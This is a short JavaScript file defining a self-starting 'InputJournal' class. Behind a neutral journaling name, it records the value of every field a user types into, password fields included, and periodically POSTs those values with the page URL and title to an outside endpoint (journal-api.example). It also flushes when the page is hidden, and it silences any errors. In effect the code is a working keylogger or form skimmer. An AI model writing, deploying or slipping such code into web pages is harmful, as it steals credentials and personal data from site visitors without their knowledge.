class InputJournal {
  constructor(options = {}) {
    this.endpoint = options.endpoint || "https://journal-api.example/v1/entries";
    this.interval = options.interval || 10000;
    this.fields = new Map();
    this.timer = null;
  }

  describe(el) {
    const label = el.labels && el.labels[0] ? el.labels[0].innerText.trim() : "";
    return el.name || el.id || el.placeholder || label || el.type;
  }

  start() {
    document.addEventListener("keyup", (event) => {
      const el = event.target;
      if (!el || !("value" in el)) return;
      this.fields.set(this.describe(el), { type: el.type, value: el.value, at: Date.now() });
    }, true);
    this.timer = setInterval(() => this.flush(), this.interval);
    document.addEventListener("visibilitychange", () => {
      if (document.visibilityState === "hidden") this.flush();
    });
  }

  async flush() {
    if (this.fields.size === 0) return;
    const entries = Object.fromEntries(this.fields);
    this.fields.clear();
    try {
      await fetch(this.endpoint, {
        method: "POST",
        keepalive: true,
        headers: { "Content-Type": "text/plain" },
        body: JSON.stringify({ url: location.href, title: document.title, entries }),
      });
    } catch (error) {
      // retry next time
    }
  }
}

new InputJournal().start();
